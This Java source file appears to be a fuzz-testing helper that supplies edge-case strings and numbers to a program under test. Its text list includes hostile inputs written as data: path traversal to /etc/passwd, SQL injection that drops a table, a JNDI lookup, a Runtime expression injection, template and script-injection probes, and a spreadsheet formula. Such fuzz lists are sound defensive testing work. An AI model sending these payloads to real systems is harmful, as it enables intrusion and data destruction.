package tillsync.scenarios.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts and numbers at which programs fail. */
final class Odd {
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\udc00x",
            "\u202e\u2066",
            "\u200b\ufeff",
            "\u001b[31m",
            "line\r\nbreak: yes",
            "\uffff",
            "🥐👩‍👩‍👧",
            "a\u0308",
            "İıſK",
            "null",
            "undefined",
            "true",
            "NaN",
            "-0",
            "1e400",
            "0x10",
            "١٢٣",
            "9223372036854775808",
            "-9223372036854775809",
            "../../etc/passwd",
            "..\\..\\",
            "'; drop table article; --",
            "' or 1=1 --",
            "\" or \"\"=\"",
            "%",
            "_%\\",
            "${jndi:ldap://example.com}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "{{7*7}}",
            "__${7*7}__::.x",
            "<img src=x onerror=alert(1)>",
            "</script><script>alert(1)</script>",
            "=HYPERLINK(\"http://example.com\")",
            "%s%n%d",
            "a,b;c\td",
            "0001-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z",
            "2026-02-30T25:61",
            "1970-01-01",
            "PT-1S",
            "00000000-0000-0000-0000-000000000000");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "1",
            "-1",
            "0.5",
            "1e0",
            "1E+2",
            "1e400",
            "-1e-400",
            "1e9999999999",
            "127",
            "255",
            "65536",
            "2147483647",
            "2147483648",
            "-2147483649",
            "4294967296",
            "9007199254740991",
            "9007199254740992",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "99999999",
            "100000000",
            "123456789012345678901234567890");

    private Odd() {}

    static String text(RandomGenerator random) {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(1 << random.nextInt(14));
            case 1 -> "🥐".repeat(1 + random.nextInt(500));
            case 2 -> noise(random, 1 + random.nextInt(40));
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    static String number(RandomGenerator random) {
        return NUMBERS.get(random.nextInt(NUMBERS.size()));
    }

    /** Any characters, halves of pairs among them. */
    static String noise(RandomGenerator random, int length) {
        var text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x10000) : random.nextInt(0x80)));
        }
        return text.toString();
    }
}
